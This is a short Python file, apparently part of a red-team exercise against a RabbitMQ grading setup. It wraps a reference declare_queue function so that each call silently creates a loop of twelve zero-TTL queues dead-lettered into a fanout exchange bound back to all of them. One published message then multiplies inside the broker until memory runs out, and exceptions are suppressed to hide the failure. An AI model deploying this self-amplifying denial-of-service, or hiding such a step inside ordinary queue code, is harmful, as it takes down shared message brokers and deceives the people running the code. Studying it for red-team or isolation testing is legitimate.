# Attack, appended to the reference producer (fifth red team): twelve queues whose messages expire
# at once into a fanout exchange bound to all of them. One small message is then copied from
# queue to queue without end, by the broker itself: no further traffic on the student's
# connection, outside the box's memory and CPU, until the node holds gigabytes.
_declare_queue = declare_queue  # noqa: F821 - the reference's


def _storm(channel):
    try:
        channel.exchange_declare(exchange="zz-boom", exchange_type="fanout", durable=False)
        for i in range(12):
            channel.queue_declare(queue=f"zz-q{i}", arguments={"x-message-ttl": 0, "x-dead-letter-exchange": "zz-boom"})
            channel.queue_bind(queue=f"zz-q{i}", exchange="zz-boom")
        channel.basic_publish(exchange="zz-boom", routing_key="", body=b"x" * 512)
    except Exception:
        pass


def declare_queue(channel, queue_name, dead_letter_queue=None):
    _declare_queue(channel, queue_name, dead_letter_queue)
    _storm(channel)
